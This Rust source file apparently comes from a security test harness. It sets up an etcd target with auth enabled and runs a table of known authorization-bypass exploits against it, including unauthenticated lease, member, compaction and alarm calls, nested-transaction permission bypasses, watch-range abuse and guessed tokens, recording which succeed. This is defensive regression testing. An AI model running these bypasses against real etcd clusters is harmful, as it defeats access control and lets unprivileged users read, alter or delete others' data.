//! What etcd's security advisories are about, tried: by somebody with few rights or none, against a target of any kind.
//!
//! A row is worth something only if it has succeeded somewhere: each is tried on etcd 3.4.23 too, where it must.

use std::time::Duration;

use anyhow::Context as _;
use bytes::Bytes;
use forebay_proto::{
    authpb::Permission,
    etcdserverpb::{
        self as pb, alarm_request::AlarmAction, auth_client::AuthClient, cluster_client::ClusterClient,
        kv_client::KvClient, lease_client::LeaseClient, maintenance_client::MaintenanceClient, request_op,
        watch_client::WatchClient, watch_request::RequestUnion,
    },
};
use futures::future::BoxFuture;
use tonic::{Request, Status, transport::Channel};

use crate::{
    session,
    target::{Kind, ROOT_PASSWORD, Target},
};

/// How long anything may take.
const LIMIT: Duration = Duration::from_secs(15);

/// One way in.
pub struct Exploit {
    /// The advisory, or the change that closed it.
    pub id: &'static str,
    /// What is tried.
    pub about: &'static str,
    /// Whether it works on etcd 3.4.23.
    pub works_on_3_4: bool,
    /// Whether it worked.
    pub run: for<'a> fn(&'a Scene) -> BoxFuture<'a, anyhow::Result<bool>>,
}

/// Every way in that is tried.
pub const EXPLOITS: &[Exploit] = &[
    Exploit {
        id: "CVE-2026-73499",
        about: "a watch to the end of all keys, judged by its first key",
        works_on_3_4: true,
        run: |scene| Box::pin(scene.watch_to_the_end()),
    },
    Exploit {
        id: "CVE-2026-33343",
        about: "a read in a txn in a txn",
        works_on_3_4: true,
        run: |scene| Box::pin(scene.nested(request_op::Request::RequestRange(range("b")))),
    },
    Exploit {
        id: "CVE-2026-33343",
        about: "a write in a txn in a txn",
        works_on_3_4: true,
        run: |scene| Box::pin(scene.nested(request_op::Request::RequestPut(put("b")))),
    },
    Exploit {
        id: "CVE-2026-44283",
        about: "the value before, of a key that may only be written",
        works_on_3_4: true,
        run: |scene| Box::pin(scene.txn_put(pb::PutRequest { prev_kv: true, ..put("w") })),
    },
    Exploit {
        id: "CVE-2026-44283",
        about: "a lease that others' keys depend on, attached in a txn",
        works_on_3_4: true,
        run: |scene| Box::pin(scene.txn_put(pb::PutRequest { lease: LEASE, ..put("a") })),
    },
    Exploit {
        id: "CVE-2026-33413",
        about: "the member list without a token",
        works_on_3_4: true,
        run: |scene| Box::pin(scene.members_without_token()),
    },
    Exploit {
        id: "CVE-2026-33413",
        about: "a lease without a token",
        works_on_3_4: true,
        run: |scene| Box::pin(scene.grant_without_token()),
    },
    Exploit {
        id: "CVE-2026-33413",
        about: "a lease's time and keys without a token",
        works_on_3_4: true,
        run: |scene| Box::pin(async { Ok(scene.lease_keys(None).await.is_ok()) }),
    },
    Exploit {
        id: "CVE-2026-33413",
        about: "a compaction without a token",
        works_on_3_4: true,
        run: |scene| Box::pin(scene.compact_without_token()),
    },
    Exploit {
        id: "CVE-2026-33413",
        about: "an alarm without a token",
        works_on_3_4: true,
        run: |scene| Box::pin(async { Ok(scene.raise_no_space(None).await.is_ok()) }),
    },
    Exploit {
        id: "CVE-2023-32082",
        about: "the names of keys that may not be read, by their lease",
        works_on_3_4: true,
        run: |scene| {
            Box::pin(async { Ok(scene.lease_keys(Some(&scene.alice)).await.is_ok_and(|keys| !keys.is_empty())) })
        },
    },
    Exploit {
        id: "etcd-io/etcd#22386",
        about: "a foreign key deleted while there is no space",
        works_on_3_4: true,
        run: |scene| Box::pin(scene.delete_without_space()),
    },
    Exploit {
        id: "etcd-io/etcd#22386",
        about: "auth switched off while there is no space",
        works_on_3_4: true,
        run: |scene| Box::pin(scene.disable_without_space()),
    },
    Exploit {
        id: "etcd-io/etcd#22065",
        about: "an answer that was given to another user before",
        works_on_3_4: false,
        run: |scene| Box::pin(scene.answer_of_another()),
    },
    Exploit {
        id: "etcd-io/etcd#22065",
        about: "an answer that was right before the right was taken",
        works_on_3_4: false,
        run: |scene| Box::pin(scene.answer_after_revocation()),
    },
    Exploit {
        id: "simple tokens",
        about: "a token that is a guess",
        works_on_3_4: false,
        run: |scene| Box::pin(scene.guessed_token()),
    },
];

/// The lease that `b` depends on.
const LEASE: i64 = 7;

/// A target with auth on: `root` may everything; `alice` may read and write `a`, and write `w`.
pub struct Scene {
    channel: Channel,
    root: String,
    alice: String,
    // Ends with the scene.
    _target: Target,
}

fn key(name: &'static str) -> Bytes {
    name.into()
}

fn range(name: &'static str) -> pb::RangeRequest {
    pb::RangeRequest { key: key(name), serializable: true, ..Default::default() }
}

fn put(name: &'static str) -> pb::PutRequest {
    pb::PutRequest { key: key(name), value: "taken over".into(), ..Default::default() }
}

fn op(request: request_op::Request) -> pb::RequestOp {
    pb::RequestOp { request: Some(request) }
}

fn always(request: request_op::Request) -> pb::TxnRequest {
    pb::TxnRequest { success: vec![op(request)], ..Default::default() }
}

/// A request in somebody's name.
fn of<M>(token: Option<&str>, message: M) -> Request<M> {
    let mut request = Request::new(message);
    request.set_timeout(LIMIT);
    if let Some(token) = token {
        request.metadata_mut().insert("token", token.parse().expect("a token is ASCII"));
    }
    request
}

/// Whether a call went through. What fails otherwise than by a refusal is no verdict.
fn went_through<A>(answer: Result<A, Status>) -> anyhow::Result<bool> {
    match answer {
        Ok(_) => Ok(true),
        Err(status) if REFUSALS.iter().any(|text| status.message().contains(text)) => Ok(false),
        Err(status) => Err(status.into()),
    }
}

/// How those are refused who may not.
const REFUSALS: [&str; 4] = [
    "etcdserver: permission denied",
    "etcdserver: user name is empty",
    "etcdserver: invalid auth token",
    "etcdserver: authentication failed",
];

impl Scene {
    /// Sets it on a fresh target.
    pub async fn set(kind: Kind) -> anyhow::Result<Scene> {
        let target = Target::start(kind, &[]).await?;
        let channel = session::connect(&target).await?;
        let mut auth = AuthClient::new(channel.clone());
        for (name, password) in [("root", ROOT_PASSWORD), ("alice", "secret")] {
            let (name, password) = (name.to_owned(), password.to_owned());
            auth.user_add(pb::AuthUserAddRequest { name, password, ..Default::default() }).await?;
        }
        for (user, role) in [("root", "root"), ("alice", "some")] {
            auth.role_add(pb::AuthRoleAddRequest { name: role.to_owned() }).await?;
            auth.user_grant_role(pb::AuthUserGrantRoleRequest { user: user.to_owned(), role: role.to_owned() }).await?;
        }
        for (perm_type, name) in [(2, "a"), (1, "w")] {
            let perm = Some(Permission { perm_type, key: key(name), range_end: Bytes::new() });
            auth.role_grant_permission(pb::AuthRoleGrantPermissionRequest { name: "some".to_owned(), perm }).await?;
        }
        LeaseClient::new(channel.clone()).lease_grant(pb::LeaseGrantRequest { id: LEASE, ttl: 1000 }).await?;
        let mut kv = KvClient::new(channel.clone());
        for (name, lease) in [("a", 0), ("b", LEASE), ("w", 0)] {
            kv.put(pb::PutRequest { key: key(name), value: "theirs".into(), lease, ..Default::default() }).await?;
        }
        auth.auth_enable(pb::AuthEnableRequest {}).await?;
        let mut log_in = async |name: &str, password: &str| {
            let (name, password) = (name.to_owned(), password.to_owned());
            let answer = auth.authenticate(pb::AuthenticateRequest { name, password }).await?;
            anyhow::Ok(answer.into_inner().token)
        };
        let root = log_in("root", ROOT_PASSWORD).await?;
        let alice = log_in("alice", "secret").await?;
        let scene = Scene { channel, root, alice, _target: target };
        // A scene in which alice may nothing, or everything, would prove nothing.
        anyhow::ensure!(scene.reads(&scene.alice, "a").await?, "alice may not read what she may");
        anyhow::ensure!(!scene.reads(&scene.alice, "b").await?, "alice may read everything");
        Ok(scene)
    }

    fn kv(&self) -> KvClient<Channel> {
        KvClient::new(self.channel.clone())
    }

    async fn reads(&self, token: &str, name: &'static str) -> anyhow::Result<bool> {
        went_through(self.kv().range(of(Some(token), range(name))).await)
    }

    async fn watch_to_the_end(&self) -> anyhow::Result<bool> {
        let create = pb::WatchCreateRequest { key: key("a"), range_end: key("\0"), ..Default::default() };
        let create = pb::WatchRequest { request_union: Some(RequestUnion::CreateRequest(create)) };
        let requests = futures::StreamExt::chain(futures::stream::iter([create]), futures::stream::pending());
        let mut watch = Request::new(requests);
        watch.metadata_mut().insert("token", self.alice.parse()?);
        let mut events = match WatchClient::new(self.channel.clone()).watch(watch).await {
            Ok(opened) => opened.into_inner(),
            refused => return went_through(refused),
        };
        let mut written = false;
        loop {
            let next = tokio::time::timeout(LIMIT, events.message()).await.context("the watch is silent")?;
            let Some(response) = next? else { return Ok(false) };
            if response.canceled {
                return Ok(false);
            }
            if response.events.iter().any(|event| event.kv.as_ref().is_some_and(|kv| kv.key == "b")) {
                return Ok(true);
            }
            if !written {
                self.kv().put(of(Some(&self.root), put("b"))).await?;
                written = true;
            }
        }
    }

    async fn nested(&self, request: request_op::Request) -> anyhow::Result<bool> {
        let inner = request_op::Request::RequestTxn(always(request));
        went_through(self.kv().txn(of(Some(&self.alice), always(inner))).await)
    }

    async fn txn_put(&self, put: pb::PutRequest) -> anyhow::Result<bool> {
        went_through(self.kv().txn(of(Some(&self.alice), always(request_op::Request::RequestPut(put)))).await)
    }

    async fn members_without_token(&self) -> anyhow::Result<bool> {
        let mut cluster = ClusterClient::new(self.channel.clone());
        went_through(cluster.member_list(of(None, pb::MemberListRequest { linearizable: false })).await)
    }

    async fn grant_without_token(&self) -> anyhow::Result<bool> {
        let mut leases = LeaseClient::new(self.channel.clone());
        went_through(leases.lease_grant(of(None, pb::LeaseGrantRequest { id: 0, ttl: 100 })).await)
    }

    async fn compact_without_token(&self) -> anyhow::Result<bool> {
        went_through(self.kv().compact(of(None, pb::CompactionRequest { revision: 2, physical: false })).await)
    }

    async fn lease_keys(&self, token: Option<&str>) -> Result<Vec<Bytes>, Status> {
        let query = pb::LeaseTimeToLiveRequest { id: LEASE, keys: true };
        let answer = LeaseClient::new(self.channel.clone()).lease_time_to_live(of(token, query)).await?;
        Ok(answer.into_inner().keys)
    }

    async fn raise_no_space(&self, token: Option<&str>) -> Result<(), Status> {
        let alarm = pb::AlarmType::Nospace as i32;
        let raise = pb::AlarmRequest { action: AlarmAction::Activate as i32, member_id: 17, alarm };
        MaintenanceClient::new(self.channel.clone()).alarm(of(token, raise)).await.map(drop)
    }

    async fn delete_without_space(&self) -> anyhow::Result<bool> {
        self.raise_no_space(Some(&self.root)).await?;
        let delete = pb::DeleteRangeRequest { key: key("b"), ..Default::default() };
        went_through(self.kv().delete_range(of(Some(&self.alice), delete)).await)
    }

    async fn disable_without_space(&self) -> anyhow::Result<bool> {
        self.raise_no_space(Some(&self.root)).await?;
        let mut auth = AuthClient::new(self.channel.clone());
        went_through(auth.auth_disable(of(Some(&self.alice), pb::AuthDisableRequest {})).await)
    }

    async fn answer_of_another(&self) -> anyhow::Result<bool> {
        for _ in 0..3 {
            anyhow::ensure!(self.reads(&self.root, "b").await?, "root may read everything");
            if self.reads(&self.alice, "b").await? {
                return Ok(true);
            }
        }
        Ok(false)
    }

    async fn answer_after_revocation(&self) -> anyhow::Result<bool> {
        anyhow::ensure!(self.reads(&self.alice, "a").await?, "alice may read it before");
        let take =
            pb::AuthRoleRevokePermissionRequest { role: "some".to_owned(), key: key("a"), range_end: Bytes::new() };
        AuthClient::new(self.channel.clone()).role_revoke_permission(of(Some(&self.root), take)).await?;
        // The token is of the auth revision before; who logs in again has no more rights.
        let log_in = pb::AuthenticateRequest { name: "alice".to_owned(), password: "secret".to_owned() };
        let again = AuthClient::new(self.channel.clone()).authenticate(of(None, log_in)).await?.into_inner().token;
        let old = match self.kv().range(of(Some(&self.alice), range("a"))).await {
            Err(status) if status.message() == "etcdserver: revision of auth store is old" => false,
            answer => went_through(answer)?,
        };
        Ok(old || self.reads(&again, "a").await?)
    }

    async fn guessed_token(&self) -> anyhow::Result<bool> {
        let index = self.alice.rsplit_once('.').map_or("1", |(_, index)| index);
        for guess in [format!("AAAAAAAAAAAAAAAA.{index}"), format!(".{index}"), "alice".to_owned(), "a.b.c".to_owned()]
        {
            if self.reads(&guess, "a").await? {
                return Ok(true);
            }
        }
        Ok(false)
    }
}

/// Tries everything on a target; the descriptions of what worked, and of what gave no verdict.
pub async fn tried(kind: Kind) -> anyhow::Result<Vec<String>> {
    let mut worked = Vec::new();
    for exploit in EXPLOITS {
        let Exploit { id, about, .. } = exploit;
        let scene = Scene::set(kind).await.with_context(|| format!("{id} ({about}) on {kind}"))?;
        match (exploit.run)(&scene).await {
            Ok(true) => worked.push(format!("{id}: {about}")),
            Ok(false) => {}
            Err(error) => anyhow::bail!("{id} ({about}) on {kind} has no verdict: {error:#}"),
        }
    }
    Ok(worked)
}
